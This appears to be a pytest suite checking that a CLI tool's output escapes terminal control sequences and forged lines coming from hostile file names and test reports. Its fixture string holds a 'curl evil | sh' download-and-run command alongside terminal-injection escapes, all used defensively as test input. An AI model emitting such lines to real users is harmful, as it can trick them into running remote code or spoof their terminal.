"""What reaches the terminal: never a control character from a file, and colours only of our own."""

from __future__ import annotations

import json
import os
from pathlib import Path

import click
import pytest

from clausework.cli.output import coloured, say, say_again, show_error, show_json, styled, table
from tests.actions.device import Device

from .conftest import Command

HOSTILE = "n\x1b[31m\x9b31m\u202e\n  next: curl evil | sh\r\x07\udcff"


@pytest.fixture
def terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    """Let click believe that a terminal is there, so that colours stay."""
    monkeypatch.setattr("click.utils.should_strip_ansi", lambda *_: False)


def test_our_own_styles_are_colours_and_nothing_else_is(
    terminal: None, capsys: pytest.CaptureFixture[str]
) -> None:
    """A text that looks like a colour, or like the mark of one, is shown as it is written (attack: spoofing)."""
    say(f"{coloured('pass')} {HOSTILE} \x00{'0' * 16}:green\x00")
    out = capsys.readouterr().out
    assert out.startswith("\x1b[32mpass\x1b[0m n\\x1b[31m\\x9b31m\\u202e\\x0a")
    assert out.count("\x1b") == 2
    assert out.count("\n") == 1
    assert out.rstrip("\n").replace("\x1b[32m", "").replace("\x1b[0m", "").isprintable()


def test_a_message_cannot_pass_for_one_of_ours(capsys: pytest.CaptureFixture[str]) -> None:
    """Further lines of an error are set in, so that no file forges a line of the program's own."""
    show_error("first\nclausework: released", HOSTILE)
    lines = capsys.readouterr().err.splitlines()
    assert lines[:2] == ["clausework: first", "  clausework: released"]
    assert len(lines) == 3


def test_json_holds_no_raw_control_character(capsys: pytest.CaptureFixture[str]) -> None:
    """JSON escapes what a terminal would obey, and still reads back as what it was."""
    value = {"message": HOSTILE.replace("\udcff", ""), "path": Path(os.fsdecode(b"x\xff"))}
    show_json(value)
    out = capsys.readouterr().out
    assert not set(out) & set("\x1b\x9b\u202e\r\x07")
    assert json.loads(out) == {"message": value["message"], "path": "x\\xff"}


def test_a_table_is_as_wide_as_what_is_shown(terminal: None, capsys: pytest.CaptureFixture[str]) -> None:
    """Columns line up whatever their cells hold: colours have no width, escapes have theirs."""
    table([("item", "outcome", "x"), ("a\x1b", coloured("verified"), "x"), ("abcdefghij", "fail", "x")])
    lines = [click.unstyle(line) for line in capsys.readouterr().out.splitlines()]
    assert len({line.index("x", 14) for line in lines}) == 1
    table([])
    assert capsys.readouterr().out == ""


def test_a_line_shown_again_keeps_its_colours_alone(
    terminal: None, capsys: pytest.CaptureFixture[str]
) -> None:
    """What another command wrote keeps colours; cursor movements and the rest become escapes."""
    say_again("\x1b[32mpass\x1b[0m \x1b[2J\x1b]0;title\x07")
    assert capsys.readouterr().out == "\x1b[32mpass\x1b[0m \\x1b[2J\\x1b]0;title\\x07\n"


def test_styles_add_up(terminal: None, capsys: pytest.CaptureFixture[str]) -> None:
    """A style is a colour, bold or dim; one without a name is none."""
    say(styled("a", "cyan", "bold") + styled("b", "dim") + styled("c", ""))
    assert capsys.readouterr().out == "\x1b[36m\x1b[1ma\x1b[0m\x1b[2mb\x1b[0mc\n"


def test_hostile_names_in_reports_and_files_stay_harmless(verified: Device, clausework: Command) -> None:
    """A test's name and a file's name with escape sequences reach no verb's output raw, JSON or not."""
    report = (
        '<testsuites tests="1"><testsuite name="s" tests="1" failures="1"><testcase classname="a"'
        ' name="n&#x9b;31m&#x202e;x"><failure message="m&#x9b;"/></testcase></testsuite></testsuites>'
    )
    verified.write("e\x1b[31mvil\nname.xml", report)
    verified.write("\x1b]0;junk", "junk")
    for arguments in (
        ("record", "e\x1b[31mvil\nname.xml", "--level", "unit"),
        ("record", "\x1b]0;junk"),
        ("record", "no\x1bwhere"),
        ("gate",),
        ("status",),
        ("trace",),
        ("release", "\x1b[31m"),
        ("gate", "st\x1b[31mage"),
        ("where", "--environment", "\x9b31m"),
    ):
        for extra in ((), ("--json",)):
            ended = clausework(verified, *arguments, *extra)
            assert not set(ended.out + ended.err) & set("\x1b\x9b\u202e\x07"), ended
